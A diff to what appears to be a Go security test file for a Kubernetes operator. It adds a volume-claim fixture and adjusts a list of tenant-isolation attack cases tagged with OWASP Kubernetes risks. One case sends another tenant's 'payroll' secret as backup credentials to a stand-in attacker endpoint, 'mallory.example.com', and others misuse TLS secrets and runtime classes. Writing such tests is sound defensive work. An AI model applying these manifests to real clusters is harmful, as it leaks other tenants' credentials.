@@ -20,6 +20,12 @@ func payroll(w *world) {
 	w.create(secret)
 }
 
+// payrollAndClaim has a volume for backups, too.
+func payrollAndClaim(w *world) {
+	payroll(w)
+	w.has(`{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: c}, spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}`)
+}
+
 // powerful is a ServiceAccount in the tenant's namespace whose rights the tenant lacks.
 func powerful(w *world) {
 	account := &corev1.ServiceAccount{}
@@ -61,7 +67,7 @@ func requesterAttacks() []attack {
 		uses("a RuntimeClass", "OWASP K04", app("pod: {runtimeClassName: for-others}"), "for-others", sandbox),
 		uses("credentials of a backup to an endpoint of the tenant", "OWASP K08, CVE-2022-24348 (Argo CD: Secrets of others by a path of the user)",
 			backup(`storageType: S3, s3: {path: b/k, awsSecret: payroll, endpoint: "https://mallory.example.com"}`), "payroll", payroll),
-		uses("a client certificate of a backup", "OWASP K08", backup(`storageType: PVC, pvc: {claimName: c, path: k}, clientTLSSecret: payroll`), "payroll", payroll),
+		uses("a client certificate of a backup", "OWASP K08", backup(`storageType: PVC, pvc: {claimName: c, path: k}, clientTLSSecret: payroll`), "payroll", payrollAndClaim),
 		{name: "a forged requester", source: "OWASP K03", item: 4, needs: requester, before: powerful,
 			manifest: `
 apiVersion: app.example.com/v1
